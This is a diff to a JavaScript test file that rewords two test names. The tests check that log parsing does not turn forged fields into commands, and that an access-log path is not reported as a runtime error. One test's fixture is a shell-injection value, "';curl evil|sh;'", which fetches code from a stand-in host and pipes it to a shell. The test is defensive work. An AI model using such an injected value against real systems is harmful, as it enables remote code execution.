@@ -63,7 +63,7 @@ it.each(Object.entries(CLASSES))("a line of any kind with %s is shown as one lin
   for (const sentence of errors) expect(sentence).not.toMatch(ACTS);
 });
 
-it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s brings no command along", (log) => {
+it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s contains no command in the output", (log) => {
   const forged = "';curl evil|sh;'";
   const wrong = [
     { instance_id: forged },
@@ -79,7 +79,7 @@ it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s brings no
   }
 });
 
-it("a stranger's path is no error of the runtime's", () => {
+it("a path that a stranger requests is not reported as an error of the runtime", () => {
   const access = "[wrangler:info] GET /x/[ERROR]service core:user:millrace: Uncaught Error: gone 404 Not Found (3ms)";
   expect(heard(access)).toEqual([]);
   expect(isLoadingError(access)).toBe(false);
